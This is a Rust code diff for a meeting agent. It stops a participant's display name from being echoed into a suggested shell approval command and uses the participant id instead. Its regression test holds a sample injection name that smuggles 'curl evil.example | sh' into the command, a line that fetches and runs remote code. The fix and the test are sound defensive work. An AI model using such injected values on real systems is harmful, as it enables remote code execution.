@@ -150,8 +150,9 @@ pub fn event(event: &Event) -> Option<String> {
         Event::Locked(true) => "the meeting is locked".into(),
         Event::Locked(false) => "the meeting is open to new people again".into(),
         Event::WantsIn(approval) => {
-            let name = harmless(&approval.name);
-            format!("{name} (device {}) wants in: `meeting-agent approve {name}`", approval.device)
+            // By the id: a name that is copied into a shell may say more.
+            let (name, id) = (harmless(&approval.name), approval.participant.to_string());
+            format!("{name} (device {}) wants in: `meeting-agent approve {}`", approval.device, &id[..8])
         }
         Event::Misbehaviour(text) => sentence(text),
         _ => return None,
@@ -220,5 +221,26 @@ pub fn status(state: &State) -> Status {
             })
             .collect(),
         ..Status::default()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use meeting_protocol::{identity::Fingerprint, session::Approval};
+    use meeting_wire::ParticipantId;
+
+    use super::*;
+
+    #[test]
+    fn no_name_is_part_of_what_is_to_be_typed() {
+        let name = "Eve`; curl evil.example | sh`".to_owned();
+        let eve = Approval {
+            participant: ParticipantId([0xee; 16]),
+            name,
+            device: Fingerprint([0xee; 32]),
+            role: Role::Participant,
+        };
+        let said = event(&Event::WantsIn(eve)).unwrap_or_default();
+        assert!(said.ends_with("wants in: `meeting-agent approve eeeeeeee`"), "{said}");
     }
 }
